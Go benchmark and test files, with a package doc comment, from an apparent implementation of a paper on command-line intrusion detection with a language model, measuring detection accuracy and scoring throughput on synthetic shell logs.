		t.Fatalf("%d verdicts, want %d", len(got), len(want))
	}
	for i := range got {
		if got[i].SessionAlert != want[i].SessionAlert {
			t.Fatalf("event %d (%q): cascade session alarm %v, float64 says %v",
				i, got[i].Line, got[i].SessionAlert, want[i].SessionAlert)
		}
	}

	// The parity claim is only meaningful if the cascade actually routed
	// traffic down different rungs rather than escalating everything.
	st := casc.CascadeStats()
	if st.Cleared == 0 {
		t.Errorf("rarity pre-filter cleared nothing on the replay: %+v", st)
	}
	if st.Triaged == 0 || st.Escalated == 0 {
		t.Errorf("model rungs idle on the replay: %+v", st)
	}
	if st.Escalated >= st.Triaged {
		t.Errorf("escalation band swallowed the whole triage rung: %+v", st)
	}

	f64AUC, err := metrics.ROCAUC(scoredItems(t, f64Scorer, test))
	if err != nil {
		t.Fatal(err)
	}
	auc, err := metrics.ROCAUC(scoredItems(t, casc, test))
	if err != nil {
		t.Fatal(err)
	}
	if drop := f64AUC - auc; drop > cascadeAUCDrop {
		t.Errorf("AUC %g vs float64 %g: drop %g > %g", auc, f64AUC, drop, cascadeAUCDrop)
	}
	t.Logf("cascade: alarms %d, rungs %+v, AUC %.4f (f64 %.4f)", wantAlarms, st, auc, f64AUC)
}
