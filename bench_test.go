package clmids

// The benchmark harness regenerates every table and figure in the paper's
// evaluation (§V) and prints the same rows the paper reports. Experiment
// training is shared across benchmarks (it runs once per `go test -bench`
// invocation); each benchmark then times its evaluation path and reports
// the headline numbers as custom metrics.
//
// Scale: the default is the tiny preset (seconds). Set
// CLMIDS_BENCH_SCALE=small to use the EXPERIMENTS.md scale (minutes).

import (
	"fmt"
	"os"
	"sync"
	"testing"

	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/preprocess"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

var (
	benchOnce sync.Once
	benchRes  *core.Results
	benchErr  error

	benchUnsupOnce sync.Once
	benchUnsupRes  *core.UnsupResults
	benchUnsupErr  error
)

func benchConfig() core.ExperimentConfig {
	if os.Getenv("CLMIDS_BENCH_SCALE") == "small" {
		return core.SmallExperiment()
	}
	return core.TinyExperiment()
}

func benchResults(b *testing.B) *core.Results {
	b.Helper()
	benchOnce.Do(func() {
		fmt.Fprintln(os.Stderr, "bench: training pipeline and all methods (shared across benchmarks)...")
		benchRes, benchErr = core.Run(benchConfig())
	})
	if benchErr != nil {
		b.Fatalf("experiment: %v", benchErr)
	}
	return benchRes
}

func benchUnsup(b *testing.B) *core.UnsupResults {
	b.Helper()
	benchUnsupOnce.Do(func() {
		cfg := core.DefaultUnsupConfig()
		if os.Getenv("CLMIDS_BENCH_SCALE") == "small" {
			cfg.Corpus.TrainLines = 6000
			cfg.Corpus.TestLines = 3000
		}
		benchUnsupRes, benchUnsupErr = core.RunUnsupervised(cfg)
	})
	if benchUnsupErr != nil {
		b.Fatalf("unsupervised experiment: %v", benchUnsupErr)
	}
	return benchUnsupRes
}

// printOnce guards table printing so -benchtime reruns stay readable.
var printed sync.Map

func printTable(name string, emit func()) {
	if _, loaded := printed.LoadOrStore(name, true); !loaded {
		emit()
	}
}

// BenchmarkFigure1Pipeline regenerates the Fig. 1 training pipeline
// end-to-end: logging -> pre-processing -> tokenizer -> MLM pre-training.
func BenchmarkFigure1Pipeline(b *testing.B) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 400
	ccfg.TestLines = 50
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		b.Fatal(err)
	}
	pcfg := core.TinyExperiment().Pipeline
	pcfg.Pretrain.Epochs = 1
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := core.BuildPipeline(train.Lines(), pcfg); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure1Inference measures scoring throughput of the trained
// system (tokens/s through the encoder), the deployment-side half of
// Fig. 1.
func BenchmarkFigure1Inference(b *testing.B) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 400
	ccfg.TestLines = 100
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		b.Fatal(err)
	}
	pcfg := core.TinyExperiment().Pipeline
	pcfg.Pretrain.Epochs = 1
	pl, err := core.BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		b.Fatal(err)
	}
	lines := test.Lines()
	tokens := 0
	for _, l := range lines {
		tokens += len(pl.Tok.EncodeForModel(l, pl.Model.Encoder.Config().MaxSeqLen))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := tuning.EmbedLines(pl.Model.Encoder, pl.Tok, lines); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	perOp := float64(tokens)
	b.ReportMetric(perOp*float64(b.N)/b.Elapsed().Seconds(), "tokens/s")
}

// inferBench holds the shared fixture of the inference-throughput
// benchmarks: one trained tiny-preset pipeline and a long scoring stream
// (corpus test lines with their natural exact-duplicate structure),
// consumed in windows like a production log tail.
const inferBenchWindow = 1000

var (
	inferBenchOnce  sync.Once
	inferBenchPl    *core.Pipeline
	inferBenchStr   []string
	inferBenchDS    *corpus.Dataset
	inferBenchTrain []string
	inferBenchErr   error
)

func inferBenchFixture(b *testing.B) (*core.Pipeline, []string) {
	b.Helper()
	inferBenchOnce.Do(func() {
		ccfg := corpus.DefaultConfig()
		ccfg.TrainLines = 400
		ccfg.TestLines = 24 * inferBenchWindow
		train, test, err := corpus.Generate(ccfg)
		if err != nil {
			inferBenchErr = err
			return
		}
		pcfg := core.TinyExperiment().Pipeline
		pcfg.Pretrain.Epochs = 1
		inferBenchPl, inferBenchErr = core.BuildPipeline(train.Lines(), pcfg)
		if inferBenchErr == nil {
			// Mirror clmtrain: the trained tokenizer carries a fitted
			// token-length estimator, so the engine benchmarks exercise the
			// estimator-bucketed lazy-encode path a bundle-served process runs.
			est, err := bpe.FitEstimator(inferBenchPl.Tok, train.Lines())
			if err != nil {
				inferBenchErr = err
				return
			}
			inferBenchPl.Tok.SetEstimator(est)
		}
		inferBenchStr = test.Lines()
		inferBenchDS = test
		inferBenchTrain = train.Lines()
	})
	if inferBenchErr != nil {
		b.Fatalf("inference fixture: %v", inferBenchErr)
	}
	return inferBenchPl, inferBenchStr
}

// inferBenchWindowAt returns the i-th window of the stream, wrapping.
func inferBenchWindowAt(lines []string, i int) []string {
	windows := len(lines) / inferBenchWindow
	at := (i % windows) * inferBenchWindow
	return lines[at : at+inferBenchWindow]
}

// BenchmarkEncode measures the BPE tokenizer hot path in its steady state:
// the pre-token LRU is warm, so most fields resolve with one cache probe
// and the merge loop runs only on novel fields. AppendForModel reuses one
// buffer, so the loop is allocation-free — this is the per-line tokenizer
// cost an engine pays on an embedding-cache miss whose words recur.
func BenchmarkEncode(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	maxLen := pl.Model.Encoder.Config().MaxSeqLen
	pl.Tok.ResetEncodeCache()
	buf := make([]int, 0, maxLen)
	for _, l := range lines { // converge the pre-token cache
		buf = pl.Tok.AppendForModel(buf[:0], l, maxLen)
	}
	sink := 0
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, l := range inferBenchWindowAt(lines, i) {
			buf = pl.Tok.AppendForModel(buf[:0], l, maxLen)
			sink += len(buf)
		}
	}
	b.StopTimer()
	if sink == 0 {
		b.Fatal("encode sink is zero; fixture broken")
	}
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkEncodeCold is the tokenizer's worst case: the pre-token cache is
// dropped before every window, so each field pays the full merge loop. The
// tentpole acceptance bar for the heap-based encoder is ≥2× the rescan
// implementation it replaced on this metric (CHANGES.md records both).
func BenchmarkEncodeCold(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	maxLen := pl.Model.Encoder.Config().MaxSeqLen
	buf := make([]int, 0, maxLen)
	sink := 0
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		pl.Tok.ResetEncodeCache()
		for _, l := range inferBenchWindowAt(lines, i) {
			buf = pl.Tok.AppendForModel(buf[:0], l, maxLen)
			sink += len(buf)
		}
	}
	b.StopTimer()
	if sink == 0 {
		b.Fatal("encode sink is zero; fixture broken")
	}
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkEstimate prices the token-length estimator against the encode
// path it lets the engine skip: one estimate per line, cache state as the
// serving engine would see it (warm from prior traffic).
func BenchmarkEstimate(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	maxLen := pl.Model.Encoder.Config().MaxSeqLen
	est := pl.Tok.Estimator()
	if est == nil {
		b.Fatal("fixture tokenizer has no estimator")
	}
	sink := 0
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, l := range inferBenchWindowAt(lines, i) {
			sink += est.EstimateForModel(pl.Tok, l, maxLen)
		}
	}
	b.StopTimer()
	if sink == 0 {
		b.Fatal("estimate sink is zero; fixture broken")
	}
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkInferenceThroughput measures the forward-only batched inference
// engine in its deployment configuration: steady-state scoring of a
// recurrent log stream with a warm LRU cache sized to the traffic's
// working set. Lines the stream has shown before skip the encoder; the
// measurement starts after one full pass over the stream, i.e. at the
// recurrence regime a long-running detector converges to. Compare lines/s
// with BenchmarkInferenceThroughputCold (every line novel, cache off) and
// BenchmarkInferenceThroughputTape (the seed's autograd path) for the full
// picture; CHANGES.md records all three.
func BenchmarkInferenceThroughput(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	ecfg := tuning.DefaultEngineConfig()
	ecfg.CacheLines = 16384
	engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, ecfg)
	for i := 0; i < len(lines)/inferBenchWindow; i++ { // converge the cache
		if _, err := engine.EmbedLines(inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := engine.EmbedLines(inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkInferenceThroughputCold is the engine's worst case: the cache is
// disabled, so only within-call dedup and the tape-free kernels help and
// every unique line pays full encoder cost.
func BenchmarkInferenceThroughputCold(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	ecfg := tuning.DefaultEngineConfig()
	ecfg.CacheLines = 0
	engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, ecfg)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := engine.EmbedLines(inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// coldBenchAtPrecision is BenchmarkInferenceThroughputCold's body with the
// engine pinned to one rung of the precision ladder: cache off, every
// unique line pays full encoder cost at that precision.
func coldBenchAtPrecision(b *testing.B, prec model.Precision) {
	pl, lines := inferBenchFixture(b)
	ecfg := tuning.DefaultEngineConfig()
	ecfg.CacheLines = 0
	ecfg.Precision = prec
	engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, ecfg)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := engine.EmbedLines(inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkInferenceThroughputColdF32 is the cold engine on the float32
// rung: identical batch geometry, half the GEMM memory traffic.
func BenchmarkInferenceThroughputColdF32(b *testing.B) {
	coldBenchAtPrecision(b, model.PrecisionFloat32)
}

// BenchmarkInferenceThroughputColdInt8 is the cold engine on the int8
// rung: quantized weights, int32 accumulation, float32 activations. The
// acceptance bar for the precision ladder is ≥2× the float64 cold rate.
func BenchmarkInferenceThroughputColdInt8(b *testing.B) {
	coldBenchAtPrecision(b, model.PrecisionInt8)
}

// BenchmarkInferenceThroughputTape is the autograd-tape baseline the
// engine replaced (the seed's EmbedLines path), on the same windows.
func BenchmarkInferenceThroughputTape(b *testing.B) {
	pl, lines := inferBenchFixture(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := tuning.EmbedLinesTape(pl.Model.Encoder, pl.Tok, inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// cascadeBenchScorer builds a cold (cache off) cascade over the bench
// fixture: the f64 retrieval scorer as the confirm rung, its int8 variant
// as the triage rung, and a rarity table calibrated on the training split —
// the composition clmserve -cascade serves. Retrieval (not PCA) because
// calibration needs O(1)-magnitude scores; the tiny PCA head's
// reconstruction errors sit at the float rounding floor, where the int8
// rung's quantization noise swamps the escalation band.
func cascadeBenchScorer(b *testing.B) *tuning.CascadeScorer {
	b.Helper()
	pl, _ := inferBenchFixture(b)
	ecfg := tuning.DefaultEngineConfig()
	ecfg.CacheLines = 0
	engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, ecfg)
	emb, err := engine.EmbedLines(inferBenchTrain)
	if err != nil {
		b.Fatal(err)
	}
	labels, err := commercial.Default().Label(inferBenchTrain, commercial.DefaultNoise(), 1)
	if err != nil {
		b.Fatal(err)
	}
	ret := anomaly.NewRetrieval(1)
	if err := ret.FitLabeled(emb, labels); err != nil {
		b.Fatal(err)
	}
	confirm := tuning.NewRetrievalScorer(engine, ret)
	// Calibrate on a full-sized training log, as clmtrain does: the clear
	// threshold's reach tracks the rarity table's unit coverage, and the 400
	// lines the tiny bench pipeline trains on undersell it badly.
	ccfg := corpus.DefaultConfig()
	ccfg.Seed = 3
	calib, _, err := corpus.Generate(ccfg)
	if err != nil {
		b.Fatal(err)
	}
	art, err := core.CalibrateCascade(confirm, modality.Shell, calib.Lines(), core.DefaultCascadeConfig())
	if err != nil {
		b.Fatal(err)
	}
	casc, err := core.BuildCascade(confirm, art)
	if err != nil {
		b.Fatal(err)
	}
	return casc
}

// BenchmarkCascadeCold measures the scoring cascade's worst case: caches
// off, every uncleared line pays full encoder cost on the int8 triage rung
// and escalations pay it again at float64. The acceptance bar (ROADMAP item
// 1) is ≥3× BenchmarkInferenceThroughputCold's f64 lines/s; the per-rung
// traffic split is reported as custom metrics so the gate can see where the
// speedup comes from.
func BenchmarkCascadeCold(b *testing.B) {
	casc := cascadeBenchScorer(b)
	_, lines := inferBenchFixture(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := casc.Score(inferBenchWindowAt(lines, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	total := float64(inferBenchWindow) * float64(b.N)
	b.ReportMetric(total/b.Elapsed().Seconds(), "lines/s")
	st := casc.CascadeStats()
	b.ReportMetric(float64(st.Cleared)/total, "cleared-frac")
	b.ReportMetric(float64(st.Escalated)/total, "escalated-frac")
}

// BenchmarkCascadeRarityFilter isolates rung 0: parsing a window and
// looking up its unit rarities, with no model in the loop. Its lines/s is
// the ceiling the cascade approaches as the clear fraction goes to one, and
// documents that the pre-filter is cheap enough to sit in front of every
// line.
func BenchmarkCascadeRarityFilter(b *testing.B) {
	_, lines := inferBenchFixture(b)
	rt, err := tuning.FitRarity(modality.Shell, inferBenchTrain)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var sink float64
	for i := 0; i < b.N; i++ {
		for _, line := range inferBenchWindowAt(lines, i) {
			sink += rt.Rarity(line)
		}
	}
	b.StopTimer()
	if sink == 0 {
		b.Fatal("rarity sink is zero; fixture broken")
	}
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// streamBenchScorer builds the unsupervised PCA scorer over the bench
// fixture with an explicit engine cache size (0 disables), so the warm and
// cold streaming benchmarks share one construction.
func streamBenchScorer(b *testing.B, cacheLines int) tuning.Scorer {
	b.Helper()
	pl, _ := inferBenchFixture(b)
	ecfg := tuning.DefaultEngineConfig()
	ecfg.CacheLines = cacheLines
	engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, ecfg)
	emb, err := engine.EmbedLines(inferBenchTrain)
	if err != nil {
		b.Fatal(err)
	}
	det := &anomaly.PCADetector{}
	if err := det.Fit(emb); err != nil {
		b.Fatal(err)
	}
	return tuning.NewPCAScorer(engine, det)
}

// streamBenchRun replays the corpus test split through the full streaming
// stack (Replayer -> Service queue -> Detector sessions -> engine-backed
// scorer) in 1000-event windows and reports end-to-end lines/s.
func streamBenchRun(b *testing.B, scorer tuning.Scorer, warmPasses int) {
	_, _ = inferBenchFixture(b)
	det := stream.NewDetector(scorer, stream.DefaultConfig())
	svc := stream.NewService(det, stream.ServiceConfig{})
	defer svc.Close()
	rep := corpus.NewReplayer(inferBenchDS, true)
	submit := func() {
		samples := rep.NextBatch(inferBenchWindow)
		events := make([]stream.Event, len(samples))
		for i, s := range samples {
			events[i] = stream.Event{User: s.User, Time: s.Time, Line: s.Line}
		}
		if _, err := svc.Submit(events); err != nil {
			b.Fatal(err)
		}
	}
	windows := len(inferBenchDS.Samples) / inferBenchWindow
	for i := 0; i < warmPasses*windows; i++ {
		submit()
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		submit()
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkStreamingThroughput measures the streaming serving layer in its
// deployment configuration: a recurrent event stream replayed through the
// bounded-queue service over a warm LRU-cached scorer — the steady state a
// long-running clmserve converges to. Compare with
// BenchmarkStreamingThroughputCold (cache off: every unique line pays full
// encoder cost, bounding the layer's worst case from below) and with the
// raw-engine BenchmarkInferenceThroughput pair to see what the session and
// queue machinery costs on top of scoring.
func BenchmarkStreamingThroughput(b *testing.B) {
	streamBenchRun(b, streamBenchScorer(b, 16384), 1)
}

// BenchmarkStreamingThroughputCold is the same stack with the embedding
// cache disabled.
func BenchmarkStreamingThroughputCold(b *testing.B) {
	streamBenchRun(b, streamBenchScorer(b, 0), 0)
}

// BenchmarkShardedThroughput is the scaling curve of the sharded streaming
// stack: the same replayed stream through a ShardedService at 1/2/4/8
// shards, each shard owning a scorer replica (shared frozen backbone,
// per-shard LRU) with a warm cache. One full pass warms every shard before
// measurement. On a multi-core runner the warm-LRU bottleneck — the
// coalescing worker's session updates and cache probes — parallelizes
// across shards, so lines/s should grow with shards up to the core count
// (the CI gate records the curve; the 4-shard point is the acceptance
// metric on 4-vCPU runners). On a single core the curve is flat and the
// benchmark doubles as an overhead check.
func BenchmarkShardedThroughput(b *testing.B) {
	for _, shards := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("shards=%d", shards), func(b *testing.B) {
			base := streamBenchScorer(b, 16384)
			replicas, err := tuning.Replicas(base, shards)
			if err != nil {
				b.Fatal(err)
			}
			sharded, err := stream.NewShardedDetector(replicas, stream.DefaultConfig())
			if err != nil {
				b.Fatal(err)
			}
			svc := stream.NewShardedService(sharded, stream.ServiceConfig{})
			defer svc.Close()
			rep := corpus.NewReplayer(inferBenchDS, true)
			submit := func() {
				samples := rep.NextBatch(inferBenchWindow)
				events := make([]stream.Event, len(samples))
				for i, s := range samples {
					events[i] = stream.Event{User: s.User, Time: s.Time, Line: s.Line}
				}
				if _, err := svc.Submit(events); err != nil {
					b.Fatal(err)
				}
			}
			// One full pass warms every shard's LRU (each replica sees only
			// its own users' lines, so one pass converges all caches).
			windows := len(inferBenchDS.Samples) / inferBenchWindow
			for i := 0; i < windows; i++ {
				submit()
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				submit()
			}
			b.StopTimer()
			b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
		})
	}
}

// BenchmarkFigure2Preprocessing regenerates the Fig. 2 pre-processing:
// parser rejection plus the command-frequency filter, reporting the drop
// counts alongside throughput.
func BenchmarkFigure2Preprocessing(b *testing.B) {
	res := benchResults(b)
	printTable("fig2", func() { res.WriteFig2(os.Stdout) })

	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 2000
	ccfg.TestLines = 100
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		b.Fatal(err)
	}
	lines := train.Lines()
	p := preprocess.New(preprocess.DefaultConfig())
	p.Fit(lines)
	b.ResetTimer()
	var out preprocess.Result
	for i := 0; i < b.N; i++ {
		out = p.Process(lines)
	}
	b.StopTimer()
	b.ReportMetric(float64(len(lines))*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
	b.ReportMetric(float64(out.DroppedInvalid), "dropped-invalid")
	b.ReportMetric(float64(out.DroppedRare), "dropped-rare")
}

// BenchmarkSection3Unsupervised regenerates the §III analysis: PCA
// reconstruction-error ranking with the masscan anecdote.
func BenchmarkSection3Unsupervised(b *testing.B) {
	res := benchUnsup(b)
	printTable("unsup", func() {
		fmt.Printf("== Section III: masscan rank #%d (%.1fx median error), weird-benign in top-%d: %d ==\n",
			res.MasscanBestRank, res.MasscanScore/res.MedianScore, len(res.Top), res.WeirdInTop)
		for _, r := range res.Top {
			fmt.Printf("  #%2d %10.3e %-9s %.64s\n", r.Rank, r.Score, r.Family, r.Line)
		}
	})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cfg := core.DefaultUnsupConfig()
		cfg.Corpus.TrainLines = 600
		cfg.Corpus.TestLines = 300
		cfg.Pipeline.Pretrain.Epochs = 1
		if _, err := core.RunUnsupervised(cfg); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(res.MasscanBestRank), "masscan-rank")
	b.ReportMetric(res.MasscanScore/res.MedianScore, "masscan/median")
}

// BenchmarkTable1 regenerates Table I: PO and PO&I for every method at the
// threshold recalling all in-box intrusions.
func BenchmarkTable1(b *testing.B) {
	res := benchResults(b)
	printTable("table1", func() { res.WriteTable1(os.Stdout) })
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var sink float64
		for _, m := range res.Methods {
			sink += m.PO.Mean + m.POI.Mean
		}
		if sink < 0 {
			b.Fatal("impossible")
		}
	}
	b.StopTimer()
	clf := res.Method(core.MethodClassification)
	ret := res.Method(core.MethodRetrieval)
	rec := res.Method(core.MethodReconstruction)
	b.ReportMetric(clf.PO.Mean, "PO-classif")
	b.ReportMetric(clf.POI.Mean, "PO&I-classif")
	b.ReportMetric(rec.POI.Mean, "PO&I-recons")
	b.ReportMetric(ret.PO.Mean, "PO-retrieval")
}

// BenchmarkTable2 regenerates Table II: PO@v for every method.
func BenchmarkTable2(b *testing.B) {
	res := benchResults(b)
	printTable("table2", func() { res.WriteTable2(os.Stdout) })
	vs := []int{}
	for v := range res.Method(core.MethodClassification).POAt {
		vs = append(vs, v)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var sink float64
		for _, m := range res.Methods {
			for _, v := range vs {
				sink += m.POAt[v].Mean
			}
		}
		if sink < 0 {
			b.Fatal("impossible")
		}
	}
	b.StopTimer()
	minV := vs[0]
	for _, v := range vs {
		if v < minV {
			minV = v
		}
	}
	b.ReportMetric(res.Method(core.MethodClassification).POAt[minV].Mean, "PO@small-classif")
	b.ReportMetric(res.Method(core.MethodClassMulti).POAt[minV].Mean, "PO@small-multi")
	b.ReportMetric(res.Method(core.MethodRetrieval).POAt[minV].Mean, "PO@small-retrieval")
}

// BenchmarkTable3Generalization regenerates Table III: the tuned classifier
// scoring the paper's in-box/out-of-box pairs.
func BenchmarkTable3Generalization(b *testing.B) {
	res := benchResults(b)
	printTable("table3", func() { res.WriteTable3(os.Stdout) })
	detected := 0
	for _, c := range res.TableIII {
		if c.OutDetected {
			detected++
		}
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d := 0
		for _, c := range res.TableIII {
			if c.OutDetected {
				d++
			}
		}
		if d != detected {
			b.Fatal("inconsistent")
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(detected), "oob-detected-of-6")
}

// BenchmarkSection5BF1 regenerates the §V-B F1 comparison against the
// commercial IDS.
func BenchmarkSection5BF1(b *testing.B) {
	res := benchResults(b)
	printTable("f1", func() { res.WriteF1(os.Stdout) })
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.F1.PaperStyle.Ours.F1 < 0 {
			b.Fatal("impossible")
		}
	}
	b.StopTimer()
	b.ReportMetric(res.F1.PaperStyle.Ours.F1, "F1-ours")
	b.ReportMetric(res.F1.PaperStyle.IDS.F1, "F1-ids")
	b.ReportMetric(res.F1.Empirical.Ours.F1, "F1-ours-empirical")
	b.ReportMetric(res.F1.Empirical.IDS.F1, "F1-ids-empirical")
}

// BenchmarkSection5CPreference regenerates the §V-C per-family preference
// analysis.
func BenchmarkSection5CPreference(b *testing.B) {
	res := benchResults(b)
	printTable("pref", func() { res.WritePreference(os.Stdout) })
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		total := 0
		for _, p := range res.Preference {
			total += p.TotalOOB
		}
		if total < 0 {
			b.Fatal("impossible")
		}
	}
	b.StopTimer()
	chains := 0
	for _, p := range res.Preference {
		if p.Family == "download_exec" {
			chains = p.Detected[core.MethodClassMulti]
		}
	}
	b.ReportMetric(float64(chains), "chains-by-multi")
}
