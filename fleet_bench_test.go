package clmids

import (
	"context"
	"net/http/httptest"
	"testing"
	"time"

	"clmids/internal/corpus"
	"clmids/internal/fleet"
	"clmids/internal/serve"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// BenchmarkFleetRoutedThroughput measures the streaming stack one tier up
// from BenchmarkStreamingThroughput: the same replayed corpus routed by the
// fleet router over two in-process replicas — consistent-hash lookup, NDJSON
// over loopback HTTP both ways, shadow-window bookkeeping — on top of the
// warm-cache serving path. The gap to BenchmarkStreamingThroughput is the
// price of the fleet tier; the CI gate holds it steady.
func BenchmarkFleetRoutedThroughput(b *testing.B) {
	_, _ = inferBenchFixture(b)
	base := streamBenchScorer(b, 16384)
	replicas, err := tuning.Replicas(base, 2)
	if err != nil {
		b.Fatal(err)
	}
	addrs := make([]string, len(replicas))
	for i, sc := range replicas {
		det := stream.NewDetector(sc, stream.DefaultConfig())
		det.SetModality("shell")
		svc := stream.NewService(det, stream.ServiceConfig{})
		defer svc.Close()
		d := serve.NewDaemon("", false)
		d.Attach(svc, "shell")
		srv := httptest.NewServer(serve.NewHandler(d, 256))
		defer srv.Close()
		addrs[i] = srv.URL
	}
	rt, err := fleet.New(fleet.Config{
		Replicas:      addrs,
		ProbeInterval: 100 * time.Millisecond,
		Seed:          1,
	})
	if err != nil {
		b.Fatal(err)
	}
	rt.Start()
	defer rt.Stop()
	for deadline := time.Now().Add(10 * time.Second); !rt.Ready(); {
		if time.Now().After(deadline) {
			b.Fatal("fleet never became ready")
		}
		time.Sleep(10 * time.Millisecond)
	}

	rep := corpus.NewReplayer(inferBenchDS, true)
	submit := func() {
		samples := rep.NextBatch(inferBenchWindow)
		events := make([]stream.Event, len(samples))
		for i, s := range samples {
			events[i] = stream.Event{User: s.User, Time: s.Time, Line: s.Line}
		}
		if _, err := rt.Route(context.Background(), events); err != nil {
			b.Fatal(err)
		}
	}
	// One full pass warms both replicas' caches (the ring pins each user to
	// one replica, so a pass converges every cache it will ever hit).
	windows := len(inferBenchDS.Samples) / inferBenchWindow
	for i := 0; i < windows; i++ {
		submit()
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		submit()
	}
	b.StopTimer()
	b.ReportMetric(float64(inferBenchWindow)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}
