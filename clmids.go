// Package clmids is a from-scratch Go implementation of "Intrusion
// Detection at Scale with the Assistance of a Command-line Language Model"
// (Lin, Guo, Chen; DSN 2024).
//
// The library covers the paper's full pipeline (Fig. 1):
//
//	logging → pre-processing (shell parser + command-frequency filter)
//	        → BPE tokenization → masked-LM pre-training (BERT-style encoder)
//	        → adaptation with noisy supervision (four methods, §IV)
//	        → inference.
//
// The package is a facade over the internal implementation:
//
//   - GenerateCorpus synthesizes production-style command-line logs
//     (the proprietary-data substitute; see DESIGN.md),
//   - Build trains the backbone (filter + tokenizer + encoder),
//   - the four Train* constructors build the §IV detection methods, all of
//     which implement Scorer,
//   - RunExperiments / RunUnsupervised regenerate the paper's tables and
//     figures,
//   - NewCommercialIDS exposes the simulated supervision source.
//
// See examples/ for runnable end-to-end programs and cmd/ for the CLI
// tools (clmgen, clmtrain, clmdetect, clmrepro).
package clmids

import (
	"io"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/model"
	"clmids/internal/tuning"
)

// Re-exported configuration and result types. The aliases keep the public
// surface in one import while the implementation stays internal.
type (
	// CorpusConfig controls synthetic log generation.
	CorpusConfig = corpus.Config
	// Dataset is one generated split.
	Dataset = corpus.Dataset
	// Sample is one logged command line with ground truth.
	Sample = corpus.Sample

	// PipelineConfig controls backbone training.
	PipelineConfig = core.PipelineConfig
	// Pipeline is the trained backbone.
	Pipeline = core.Pipeline
	// ModelConfig describes the transformer encoder.
	ModelConfig = model.Config

	// ClassifierConfig controls classification-based tuning (§IV-B).
